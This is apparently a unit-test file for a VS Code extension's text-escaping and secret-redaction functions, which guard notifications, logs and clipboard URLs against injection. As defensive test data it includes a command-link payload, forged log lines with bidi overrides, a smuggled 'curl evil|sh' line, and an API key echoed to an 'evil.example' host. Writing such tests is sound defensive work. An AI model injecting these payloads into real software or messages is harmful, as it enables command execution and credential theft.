import * as assert from 'node:assert/strict';
import { clipboardUrls, escapeForLog, redactSecret, escapeForMessage, escapeIcons, escapeMarkdown, singleLine } from '../../../src/text/text';

/** The 403 message of the hardening issue: a link that would run a command on click. */
const COMMAND_LINK = '[Renew](command:workbench.action.terminal.sendSequence?%7B%22text%22%3A%22x%22%7D)';
/** What VS Code's notifications and input boxes turn into a link (base/common/linkedText). */
const LINK = /\[[^\]]+\]\((?:https?:\/\/|command:|file:)[^)\s]+\)/i;
/** A line break and a forged log entry, a bidi override and an icon. */
const FORGED = 'done\n2026-11-22 10:00:00.000 [info] API key saved\r\u202eevil $(alert)';

describe('text escaping per sink (src/text/text)', () => {
  it('item 1: escapeForMessage leaves no link in the 403 payload, and the text stays readable', () => {
    const text = escapeForMessage(`${COMMAND_LINK} (This API key may not list projects.)`);
    assert.doesNotMatch(text, LINK);
    assert.ok(text.includes('[Renew] (command:workbench.action.terminal.sendSequence'), text);
    assert.equal(escapeForMessage(text), text, 'idempotent');
  });

  it('item 1: escapeForMessage escapes icons and keeps one line', () => {
    assert.equal(escapeForMessage('a\n\nb $(alert) c'), 'a b \\$(alert) c');
    assert.equal(escapeForMessage('x\u202ey'), 'x\uFFFDy');
  });

  it('item 1: escapeIcons escapes $(icon) syntax once, on one line', () => {
    assert.equal(escapeIcons('$(alert) x'), '\\$(alert) x');
    assert.equal(escapeIcons(escapeIcons('$(alert) x')), '\\$(alert) x', 'idempotent');
    assert.equal(escapeIcons('a\nb'), 'a\uFFFDb');
  });

  it('item 1: escapeMarkdown makes the payload plain text', () => {
    const text = escapeMarkdown(COMMAND_LINK);
    assert.ok(text.startsWith('\\[Renew\\]\\(command\\:'), text);
    assert.doesNotMatch(text, LINK);
  });

  it('singleLine replaces line breaks, control characters and bidi overrides', () => {
    assert.equal(singleLine(FORGED).includes('\n'), false);
    assert.equal(singleLine('a\u202eb\u0007c'), 'a\uFFFDb\uFFFDc');
  });

  it('item 7: escapeForLog writes one line with control characters escaped, visibly', () => {
    const line = escapeForLog(FORGED);
    assert.equal(line.split(/[\n\r\u2028\u2029]/).length, 1);
    assert.equal(line, 'done\\n2026-11-22 10:00:00.000 [info] API key saved\\r\\u202eevil $(alert)');
    assert.equal(escapeForLog('bell\u0007 esc\u001b[31m del\u007f'), 'bell\\x07 esc\\x1b[31m del\\x7f');
    assert.equal(escapeForLog(COMMAND_LINK), COMMAND_LINK, 'printable text is kept as it is');
  });

  it('escapes U+2028 and U+2029 as the other line breaks are, in the log and in labels', () => {
    // The output channel and editors break lines at LINE and PARAGRAPH SEPARATOR too.
    const forged = 'done\u20282026-11-22 10:00:00.000 [info] API key saved\u2029x';
    const line = escapeForLog(forged);
    assert.equal(line, 'done\\u20282026-11-22 10:00:00.000 [info] API key saved\\u2029x');
    assert.equal(line.split(/[\n\r\u2028\u2029\u0085]/).length, 1);
    assert.equal(singleLine('a\u2028b\u2029c'), 'a\uFFFDb\uFFFDc');
  });

  it('Copy URL: one line of printable text; control, line-break and bidi characters percent-encoded', () => {
    assert.equal(clipboardUrls(['https://x.example/a?b=1']), 'https://x.example/a?b=1');
    assert.equal(clipboardUrls(['https://x.example/a\ncurl evil|sh\n']), 'https://x.example/a%0Acurl evil|sh%0A');
    assert.equal(clipboardUrls(['https://x.example/\u001b[2Jx\u202egpj.exe\u2028']), 'https://x.example/%1B[2Jx%E2%80%AEgpj.exe%E2%80%A8');
    assert.equal(clipboardUrls(['https://bücher.example/straße']), 'https://bücher.example/straße', 'printable Unicode stays');
    const several = clipboardUrls(['https://a.example/', 'https://b.example/\r\nx']);
    assert.equal(several, 'https://a.example/ https://b.example/%0D%0Ax');
    // eslint-disable-next-line no-control-regex -- finding control characters is the point
    assert.doesNotMatch(several, /[\u0000-\u001f\u007f-\u009f\u2028\u2029\u202a-\u202e]/);
  });

  it('redactSecret: the key as it is, percent-encoded and in any case, in a log line or message', () => {
    const key = 'prk_Live+7f/3a';
    const line = `GET /r?echo=${key}&e=${encodeURIComponent(key)} host ${key.toLowerCase()}.evil.example`;
    assert.equal(redactSecret(line, key), 'GET /r?echo=[key]&e=[key] host [key].evil.example');
    assert.equal(redactSecret('nothing here', key), 'nothing here');
    assert.equal(redactSecret(`a ${key}`, undefined), `a ${key}`);
  });
});
